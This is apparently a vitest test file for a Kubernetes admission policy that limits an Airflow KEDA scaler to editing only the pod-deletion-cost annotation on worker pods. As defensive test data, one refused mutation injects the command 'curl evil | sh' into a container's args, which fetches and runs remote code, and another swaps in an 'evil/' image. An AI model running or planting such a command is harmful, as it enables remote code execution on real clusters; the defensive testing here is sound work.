import { join } from 'node:path';

import { run } from '@bufbuild/cel';
import type { CelInput } from '@bufbuild/cel';
import { describe, expect, it } from 'vitest';

import { DEPLOY_DIR, at, kustomize, single } from './helpers.js';
import type { Manifest } from './helpers.js';
import { renderInstallForTest } from './support/render-install.js';

/**
 * The ValidatingAdmissionPolicy that narrows the scaler's `patch pods` to the pod-deletion-cost
 * annotation, evaluated as the API server would (matchConstraints, the binding's namespace
 * selector, matchConditions, variables, validations), its CEL run by a real CEL evaluator
 * (@bufbuild/cel) on realistic old and new pods.
 */
interface Request {
  username: string;
  operation: 'CREATE' | 'UPDATE' | 'DELETE';
  resource?: string;
  subResource?: string;
  namespace: string;
  oldObject: unknown;
  object: unknown;
}

function cel(value: unknown): CelInput {
  if (Array.isArray(value)) return value.map(cel);
  if (typeof value === 'object' && value !== null) return new Map(Object.entries(value).map(([k, v]) => [k, cel(v)]));
  if (typeof value === 'number' && Number.isInteger(value)) return BigInt(value);
  return value as CelInput;
}

/** null: the policy does not apply; otherwise the messages of the failed validations ([] = allowed). */
function admit(manifests: readonly Manifest[], request: Request): string[] | null {
  const policy = single(manifests, 'ValidatingAdmissionPolicy');
  const binding = single(manifests, 'ValidatingAdmissionPolicyBinding');
  expect(at(binding, 'spec.policyName')).toBe(policy.metadata.name);
  expect(at(binding, 'spec.validationActions')).toEqual(['Deny']);
  const rules = at(policy, 'spec.matchConstraints.resourceRules') as { apiGroups: string[]; apiVersions: string[]; operations: string[]; resources: string[] }[];
  const resource = request.resource ?? 'pods';
  const path = request.subResource === undefined ? resource : `${resource}/${request.subResource}`;
  if (!rules.some((r) => r.apiGroups.includes('') && r.apiVersions.includes('v1') && r.operations.includes(request.operation) && r.resources.includes(path))) return null;
  const namespaceLabels = at(binding, 'spec.matchResources.namespaceSelector.matchLabels') as Record<string, string>;
  if (namespaceLabels['kubernetes.io/metadata.name'] !== request.namespace) return null;
  const activation: Record<string, CelInput> = {
    request: cel({ operation: request.operation, namespace: request.namespace, userInfo: { username: request.username } }),
    oldObject: cel(request.oldObject),
    object: cel(request.object),
  };
  for (const condition of at(policy, 'spec.matchConditions') as { expression: string }[]) {
    if (run(condition.expression, activation) !== true) return null;
  }
  const variables = new Map<string, CelInput>();
  for (const variable of at(policy, 'spec.variables') as { name: string; expression: string }[]) {
    variables.set(variable.name, run(variable.expression, { ...activation, variables: variables }) as CelInput);
  }
  const failed: string[] = [];
  for (const validation of at(policy, 'spec.validations') as { expression: string; message: string }[]) {
    const result = run(validation.expression, { ...activation, variables });
    if (result !== true) failed.push(`${validation.message} (${JSON.stringify(result, (_k, v: unknown) => (typeof v === 'bigint' ? String(v) : v))})`);
  }
  return failed;
}

const COST = 'controller.kubernetes.io/pod-deletion-cost';

function workerPod(namespace: string): Record<string, unknown> {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      name: 'airflow-worker-7c9d8b6f5-x2kqz',
      namespace,
      labels: { tier: 'airflow', component: 'worker', release: 'airflow', 'airflow-keda-scaler/worker-set': 'default', 'pod-template-hash': '7c9d8b6f5' },
      annotations: { 'cluster-autoscaler.kubernetes.io/safe-to-evict': 'false', 'karpenter.sh/do-not-disrupt': 'true' },
      ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'airflow-worker-7c9d8b6f5', uid: 'd5a0', controller: true, blockOwnerDeletion: true }],
    },
    spec: {
      serviceAccountName: 'airflow-worker',
      terminationGracePeriodSeconds: 600,
      containers: [{ name: 'worker', image: 'apache/airflow:3.1.7', args: ['bash', '-c', 'exec airflow celery worker'], resources: { limits: { cpu: '4', memory: '8Gi' } } }],
    },
  };
}

function changed(pod: Record<string, unknown>, change: (copy: any) => void): Record<string, unknown> { // eslint-disable-line @typescript-eslint/no-explicit-any -- edits a plain JSON object
  const copy = structuredClone(pod);
  change(copy);
  return copy;
}

describe.each([
  ['deploy/base', () => kustomize(join(DEPLOY_DIR, 'base')), 'airflow'],
  ['deploy/overlays/worker-sets', () => kustomize(join(DEPLOY_DIR, 'overlays/worker-sets')), 'airflow'],
])('%s: the scaler may change only pod-deletion-cost on pods', (_name, render, namespace) => {
  const manifests = render();
  const scaler = `system:serviceaccount:${namespace}:airflow-keda-scaler`;
  const pod = workerPod(namespace);
  const update = (object: unknown, username = scaler, oldObject: unknown = pod): string[] | null =>
    admit(manifests, { username, operation: 'UPDATE', namespace, oldObject, object });

  it('allows setting, changing and removing the annotation (what the scaler does)', () => {
    const ranked = changed(pod, (p) => (p.metadata.annotations[COST] = '-250'));
    expect(update(ranked)).toEqual([]);
    expect(update(changed(ranked, (p) => (p.metadata.annotations[COST] = '0')), scaler, ranked)).toEqual([]);
    expect(update(pod, scaler, ranked)).toEqual([]); // restore: the annotation removed
    const bare = changed(pod, (p) => delete p.metadata.annotations);
    expect(update(changed(bare, (p) => (p.metadata.annotations = { [COST]: '10' })), scaler, bare)).toEqual([]);
  });

  it.each<[string, (p: any) => void, RegExp]>([ // eslint-disable-line @typescript-eslint/no-explicit-any -- edits a plain JSON object
    ['a container image', (p) => (p.spec.containers[0].image = 'evil/airflow:latest'), /spec/],
    ['a command', (p) => (p.spec.containers[0].args = ['sh', '-c', 'curl evil | sh']), /spec/],
    ['a label (would take the pod out of its ReplicaSet)', (p) => (p.metadata.labels['pod-template-hash'] = 'x'), /labels/],
    ['a new label', (p) => (p.metadata.labels['extra'] = 'x'), /labels/],
    ['the owner references', (p) => (p.metadata.ownerReferences = []), /owner references/],
    ['a finalizer', (p) => (p.metadata.finalizers = ['example.com/hold']), /finalizers/],
    ['another annotation', (p) => (p.metadata.annotations['karpenter.sh/do-not-disrupt'] = 'false'), /no annotation but/],
    ['a new annotation', (p) => (p.metadata.annotations['example.com/x'] = 'y'), /no annotation but/],
    ['an annotation removed', (p) => delete p.metadata.annotations['cluster-autoscaler.kubernetes.io/safe-to-evict'], /no annotation but/],
    ['a deletion cost that is not an integer', (p) => (p.metadata.annotations[COST] = 'cheap'), /must be an integer/],
  ])('refuses a change to %s', (_label, change, message) => {
    const failed = update(changed(pod, change));
    expect(failed).not.toBeNull();
    expect(failed!.join('; ')).toMatch(message);
  });

  it('applies to the scaler\'s account only, in its namespace, on pods themselves', () => {
    const image = changed(pod, (p) => (p.spec.containers[0].image = 'x'));
    expect(update(image, 'system:serviceaccount:kube-system:replicaset-controller')).toBeNull();
    expect(update(image, `system:serviceaccount:other-${namespace}:airflow-keda-scaler`)).toBeNull();
    expect(admit(manifests, { username: scaler, operation: 'UPDATE', namespace, subResource: 'status', oldObject: pod, object: image })).toBeNull();
    expect(admit(manifests, { username: scaler, operation: 'UPDATE', namespace: 'default', oldObject: pod, object: image })).toBeNull();
  });
});

describe('install.sh --render re-targets the policy', () => {
  it('names, user and namespace selector follow AIRFLOW_NAMESPACE', () => {
    const manifests = renderInstallForTest([], { AIRFLOW_NAMESPACE: 'data-platform', SCALER_IMAGE: 'example.com/scaler:1' });
    const policy = single(manifests, 'ValidatingAdmissionPolicy');
    expect(policy.metadata.name).toBe('airflow-keda-scaler.data-platform');
    expect(at(single(manifests, 'ValidatingAdmissionPolicyBinding'), 'spec.policyName')).toBe('airflow-keda-scaler.data-platform');
    const pod = workerPod('data-platform');
    const image = changed(pod, (p) => (p.spec.containers[0].image = 'x'));
    const request = { operation: 'UPDATE' as const, namespace: 'data-platform', oldObject: pod, object: image };
    expect(admit(manifests, { ...request, username: 'system:serviceaccount:data-platform:airflow-keda-scaler' })).toHaveLength(1);
    expect(admit(manifests, { ...request, username: 'system:serviceaccount:airflow:airflow-keda-scaler' })).toBeNull();
  });
});
